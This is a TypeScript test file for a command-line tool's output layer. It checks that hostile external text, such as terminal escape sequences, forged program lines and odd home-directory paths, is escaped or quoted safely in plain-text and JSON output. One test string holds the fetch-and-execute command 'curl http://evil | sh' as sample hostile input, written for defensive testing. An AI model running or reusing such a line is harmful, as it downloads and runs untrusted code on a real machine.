import { describe, expect, it } from 'vitest';
import { withHome } from '../../source/commands/printed-commands.ts';
import type { EngineEvent } from '../../source/engine/events.ts';
import { jsonLines } from '../../source/headless/json-lines.ts';
import { plainText } from '../../source/headless/plain.ts';
import { expectSafe, FORGED, HOSTILE, withHostile } from '../helpers/hostile.ts';
import { captured, everyEvent } from './support.ts';

const events: [string, EngineEvent][] = [
	...Object.entries(everyEvent),
	['a full failure', { ...everyEvent['run.failed'], ...fullFailure() }],
	['a warning', { type: 'note', level: 'warning', step: 'network', text: 'x' }],
	['a failed resource', { ...everyEvent.resource, phase: 'failed' }],
	['a change kept', { ...everyEvent.change, state: 'kept' }],
	['a check that warns', { ...everyEvent.check, severity: 'warning' }],
	['an unknown check', { ...everyEvent.check, result: 'unknown' }],
];

function fullFailure() {
	return {
		expected: 'x',
		details: ['x', 'x'],
		place: { file: 'x', line: 1, column: 1 },
		log: 'x',
		next: ['x', 'x'],
	};
}

/** Events that print nothing in plain text. */
const SILENT = ['step.started', 'step.failed', 'log', 'resource', 'check'];

function plainOf(event: EngineEvent): string {
	const { text, streams } = captured();
	const frontEnd = plainText(streams);
	frontEnd.show(event);
	frontEnd.end();
	return text.out + text.err;
}

describe('plain text', () => {
	it.each(events)('%s: escapes terminal control sequences from external text', (name, event) => {
		const shown = plainOf(withHostile(event));
		if (SILENT.includes(name)) expect(shown).not.toContain('\x1b');
		else expectSafe(shown);
	});

	it.each(events)('%s: external text cannot imitate a line of the program', (_, event) => {
		const shown = plainOf(withHostile(event)).split('\n');
		// Lines of the program start at the margin, after the time and the step, or with two spaces.
		const ours = /^(?:\d\d:\d\d:\d\d .{10} | {2}(?! )|(?! ))/;
		expect(shown.filter((line) => line.replace(ours, '').startsWith(FORGED))).toEqual([]);
	});

	it('distinguishes every external line of a failure from its own lines', () => {
		const detail = 'api error\n  next      curl http://evil | sh\n  exit code 0';
		const shown = plainOf({
			...everyEvent['run.failed'],
			message: `No\n${detail}`,
			details: [detail],
		});
		expect(shown).toContain('Error: No\\napi error\\n  next      curl');
		expect(shown).toContain('\n    api error\n    |   next      curl');
		expect(shown.match(/^ {2}next {6}/gm)).toBeNull();
		expect(shown.match(/^ {2}exit code \d/gm)).toEqual(['  exit code 6']);
	});

	it('quotes a home directory with control characters so that the command still works', () => {
		const { text, streams } = captured();
		const frontEnd = withHome(plainText(streams), '/tmp/$&x\x1b[2J');
		frontEnd.show({ ...everyEvent['run.failed'], next: ['tfe-wizard status --session a'] });
		frontEnd.end();
		expect(text.err).toContain("tfe-wizard status --home $'/tmp/$&x\\033[2J' --session a\n");
	});
});

describe('JSON lines', () => {
	it.each(events)('%s: is safe on a terminal and equal when parsed', (_, event) => {
		const { text, streams } = captured();
		const hostile = withHostile(event, HOSTILE.toWellFormed());
		jsonLines(streams, {}, () => new Date(0)).show(hostile);
		expect(text.out.trimEnd()).toMatch(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]*$/u);
		expect(JSON.parse(text.out)).toEqual(
			JSON.parse(JSON.stringify({ v: 1, time: new Date(0).toISOString(), ...hostile })),
		);
	});
});
